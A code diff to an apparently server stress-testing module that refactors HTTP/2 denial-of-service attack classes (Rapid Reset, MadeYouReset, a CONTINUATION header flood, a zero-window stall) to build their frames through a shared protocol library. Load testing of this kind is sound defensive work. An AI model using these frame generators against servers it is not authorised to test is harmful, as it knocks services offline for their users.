@@ -16,6 +16,8 @@ from dataclasses import asdict
 
 from lanthorn.bench import h2wire as w
 from lanthorn.bench.swarm import Attack, Conn, Swarm
+from lanthorn.protocol import h2wire as wire
+from lanthorn.protocol.http2 import PREFACE
 
 SMALL, LARGE = "/index.html", "/large.bin"
 
@@ -53,7 +55,7 @@ class MadeYouReset(Attack):
         return w.OPENING
 
     def after(self, stream_id: int) -> bytes:
-        return w.frame(w.DATA, 0, stream_id, b"x")
+        return wire.frame(wire.DATA, 0, stream_id, b"x")
 
     def refill(self, conn: Conn) -> tuple[bytes, int]:
         first = conn.next_stream
@@ -70,7 +72,7 @@ class RapidReset(MadeYouReset):
     name = "rapid-reset"
 
     def after(self, stream_id: int) -> bytes:
-        return w.frame(w.RST_STREAM, 0, stream_id, w.CANCEL.to_bytes(4, "big"))
+        return wire.rst_stream(stream_id, wire.ErrorCode.CANCEL)
 
 
 class ContinuationHoard(Attack):
@@ -78,12 +80,12 @@ class ContinuationHoard(Attack):
 
     name, unit, default_conns, opening_units = "continuation", "header blocks", 300, 1
     FRAMES = 63
-    BLOCK = w.padding_block(w.MAX_FRAME * (FRAMES + 1))
+    BLOCK = w.padding_block(wire.DEFAULT_FRAME_SIZE * (FRAMES + 1))
 
     def __init__(self) -> None:
-        size = w.MAX_FRAME
-        frames = [w.frame(w.HEADERS, w.END_STREAM, 1, self.BLOCK[:size])]
-        frames += [w.frame(w.CONTINUATION, 0, 1, self.BLOCK[size * i : size * (i + 1)])
+        size = wire.DEFAULT_FRAME_SIZE
+        frames = [wire.frame(wire.HEADERS, wire.END_STREAM, 1, self.BLOCK[:size])]
+        frames += [wire.frame(wire.CONTINUATION, 0, 1, self.BLOCK[size * i : size * (i + 1)])
                    for i in range(1, self.FRAMES + 1)]  # fmt: skip
         self.payload = w.OPENING + b"".join(frames)
 
@@ -122,7 +124,7 @@ class ZeroWindow(Attack):
     BLOCK = w.request_block(LARGE)
 
     def opening(self, conn: Conn) -> bytes:
-        return w.PREFACE + w.settings(initial_window_size=0) + w.get(1, self.BLOCK)
+        return PREFACE + wire.settings({wire.INITIAL_WINDOW_SIZE: 0}) + w.get(1, self.BLOCK)
 
 
 _ALL = (PingFlood, SettingsFlood, MadeYouReset, RapidReset, ContinuationHoard, IdlePing,
